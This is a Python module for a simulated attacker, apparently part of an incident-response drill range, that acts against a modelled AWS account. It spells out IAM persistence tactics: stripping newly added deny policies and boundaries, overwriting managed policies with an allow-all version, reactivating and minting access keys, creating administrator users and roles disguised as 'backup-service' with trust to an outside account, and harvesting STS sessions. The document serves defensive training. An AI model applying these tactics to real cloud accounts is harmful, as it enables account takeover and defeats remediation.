"""An attacker that fights back: it strips what denies it and mints what it can return with.

It holds a leaked key of a user with broad rights. Every 0.5 s of the world's time it looks at all
that it owns (GetAccountAuthorizationDetails) and takes off what was not there before: managed
policies (or, where it may not, makes a harmless version of them the default), inline policies,
boundaries, groups; it turns its keys on again and mints keys, users and roles with administrator's
rights. Every 5 s it tries each credential that it ever got, takes sessions (AssumeRole,
GetSessionToken, GetFederationToken), also from an account of its own. It has no threads: `turn` is
called when its time has come (pursuit.py), and a seed repeats a run.

What it does is what public research describes of such tools; no code of any stands here. It does
not guess: a credential that is refused is tried again, in turn, for ever.
"""

from __future__ import annotations

import json
import random
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

from playbooks.drills.range.adversary_hands import Hands, Held
from playbooks.drills.range.keys import Credentials

if TYPE_CHECKING:
    from collections.abc import Mapping

    from playbooks.drills.range.world import World

POLL_SECONDS = 0.5
HEALTH_SECONDS = 5.0
ADMIN = "arn:aws:iam::aws:policy/AdministratorAccess"
EVERYTHING = json.dumps(
    {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
)
USERS, ROLES, KEYS = 2, 1, 2
# It does not take more sessions than it can look after.
MOST_HELD = 16
# It looks at one user's keys every so many turns.
TURNS_A_KEY = 3
Shape = dict[tuple[str, str], str]


@dataclass
class Attacker:
    """`leaked` is a key of the user `user`; `outside` one of a user of the attacker's own account
    (12 digits in `own_account`), which its roles trust."""

    world: World
    leaked: Credentials
    user: str
    outside: Credentials
    own_account: str
    seed: int = 0
    hands: Hands = field(init=False)
    held: list[Held] = field(init=False)
    baseline: dict[str, Shape] = field(default_factory=dict)
    health_due: float = 0.0
    in_use: int = 0
    made: int = 0
    turns: int = 0

    def __post_init__(self) -> None:
        self.hands = Hands(self.world)
        self.held = [Held(self.leaked, f"user/{self.user}")]
        self.rng = random.Random(f"attacker {self.seed}")  # noqa: S311
        self.abroad = Held(self.outside, "outside", foreign=True)
        self.owned = {f"user/{self.user}"}

    def turn(self) -> None:
        """Do what is done every 0.5 s, and every 5 s what is done then."""
        now = self.world.ground.seconds()
        if now >= self.health_due:
            self.health_due = now + HEALTH_SECONDS
            self._check_health()
        seen = self._look()
        if seen is None:
            return
        for name in sorted(self.owned & set(seen)):
            self._strip(name, seen[name])
        self.turns += 1
        if self.turns % TURNS_A_KEY == 1:
            self._keep_keys(sorted(n for n in self.owned & set(seen) if n.startswith("user/")))
        self._mint(set(seen))

    def _look(self) -> dict[str, Shape] | None:
        """What the account holds, seen with the credential in use; the next one's turn comes where
        that is refused."""
        able = [h for h in self.held if h.lasting or h.of.startswith("role/")]
        self.hands.take(able[self.in_use % len(able)])
        answer = self.hands.call(
            "iam", "get_account_authorization_details", Filter=["User", "Role"], MaxItems=1000
        )
        if answer is None:
            self.in_use += 1
            return None
        seen = _shapes(answer)
        for name in self.owned & set(seen):
            self.baseline.setdefault(name, seen[name])
        return seen

    def _strip(self, name: str, shape: Shape) -> None:
        """Take off what was not there when it was first seen."""
        kind, _, bare = name.partition("/")
        who = {f"{kind.title()}Name": bare}
        for what, given in shape:
            if (what, given) in self.baseline[name]:
                continue
            if what == "attached":
                self.hands.call("iam", f"detach_{kind}_policy", **who, PolicyArn=given)
                if self.hands.refused:
                    self.hands.call(
                        "iam",
                        "create_policy_version",
                        PolicyArn=given,
                        PolicyDocument=EVERYTHING,
                        SetAsDefault=True,
                    )
            elif what == "inline":
                self.hands.call("iam", f"delete_{kind}_policy", **who, PolicyName=given)
            elif what == "boundary":
                self.hands.call("iam", f"delete_{kind}_permissions_boundary", **who)
            elif what == "group":
                self.hands.call("iam", "remove_user_from_group", **who, GroupName=given)

    def _keep_keys(self, users: list[str]) -> None:
        """Look at one user's keys, another's each time: turn them on again, and have two."""
        if not users:
            return
        user = users[self.rng.randrange(len(users))].removeprefix("user/")
        answer = self.hands.call("iam", "list_access_keys", UserName=user)
        if answer is None:
            return
        for key in answer["AccessKeyMetadata"]:
            if key["Status"] != "Active":
                named = {"UserName": user, "AccessKeyId": key["AccessKeyId"]}
                self.hands.call("iam", "update_access_key", **named, Status="Active")
        if len(answer["AccessKeyMetadata"]) < KEYS:
            self._new_key(user)

    def _new_key(self, user: str) -> None:
        answer = self.hands.call("iam", "create_access_key", UserName=user)
        if answer is not None:
            key = answer["AccessKey"]
            worn = Credentials(key["AccessKeyId"], key["SecretAccessKey"])
            self.held.append(Held(worn, f"user/{user}"))

    def _mint(self, seen: set[str]) -> None:
        """Have two users and a role of its own, as long as it can make them."""
        alive = {name.partition("/")[0] for name in self.owned & seen}
        users = [n for n in self.owned & seen if n.startswith("user/") and n != f"user/{self.user}"]
        if len(users) < USERS:
            self._new_user()
        if "role" not in alive and ROLES:
            self._new_role()

    def _new_user(self) -> None:
        name = self._name()
        if self.hands.call("iam", "create_user", UserName=name) is None:
            return
        self.owned.add(f"user/{name}")
        self.baseline[f"user/{name}"] = {("attached", ADMIN): ""}
        self.hands.call("iam", "attach_user_policy", UserName=name, PolicyArn=ADMIN)
        self._new_key(name)

    def _new_role(self) -> None:
        name = self._name()
        trust = {
            "Effect": "Allow",
            "Action": "sts:AssumeRole",
            "Principal": {"AWS": [self.own_account, self.world.account]},
        }
        document = json.dumps({"Version": "2012-10-17", "Statement": [trust]})
        made = self.hands.call(
            "iam", "create_role", RoleName=name, AssumeRolePolicyDocument=document
        )
        if made is None:
            return
        self.owned.add(f"role/{name}")
        self.baseline[f"role/{name}"] = {("attached", ADMIN): ""}
        self.hands.call("iam", "attach_role_policy", RoleName=name, PolicyArn=ADMIN)

    def _name(self) -> str:
        self.made += 1
        return f"backup-service-{self.made}"

    def _check_health(self) -> None:
        """Try every credential, and take sessions with those that work."""
        for held in list(self.held):
            self.hands.take(held)
            works = self.hands.call("s3", "list_buckets") is not None
            if works and held.lasting and len(self.held) < MOST_HELD:
                self._take_sessions(held)
        self.hands.take(self.abroad)
        for name in sorted(n for n in self.owned if n.startswith("role/")):
            self._assume(name.removeprefix("role/"))

    def _take_sessions(self, held: Held) -> None:
        if sum(1 for h in self.held if h.of == f"session of {held.of}") >= 2:
            return
        answer = self.hands.call("sts", "get_session_token")
        self._keep(answer, f"session of {held.of}")
        answer = self.hands.call("sts", "get_federation_token", Name="backup", Policy=EVERYTHING)
        self._keep(answer, f"session of {held.of}")

    def _assume(self, role: str) -> None:
        arn = f"arn:aws:iam::{self.world.account}:role/{role}"
        answer = self.hands.call("sts", "assume_role", RoleArn=arn, RoleSessionName="backup")
        if answer is not None:
            self.held = [h for h in self.held if h.of != f"role/{role}"]
            self._keep(answer, f"role/{role}")

    def _keep(self, answer: Mapping[str, Any] | None, of: str) -> None:
        if answer is not None:
            made = answer["Credentials"]
            worn = Credentials(made["AccessKeyId"], made["SecretAccessKey"], made["SessionToken"])
            self.held.append(Held(worn, of, lasting=False))


def _shapes(answer: Mapping[str, Any]) -> dict[str, Shape]:
    """user/NAME or role/NAME -> what it holds, as (kind, name)."""
    found: dict[str, Shape] = {}
    for kind, listed in (("User", "UserDetailList"), ("Role", "RoleDetailList")):
        for one in answer[listed]:
            shape: Shape = {
                ("inline", p["PolicyName"]): "" for p in one.get(f"{kind}PolicyList", [])
            }
            shape |= {("attached", p["PolicyArn"]): "" for p in one["AttachedManagedPolicies"]}
            shape |= {("group", name): "" for name in one.get("GroupList", [])}
            if one.get("PermissionsBoundary"):
                shape["boundary", one["PermissionsBoundary"]["PermissionsBoundaryArn"]] = ""
            found[f"{kind.lower()}/{one[f'{kind}Name']}"] = shape
    return found
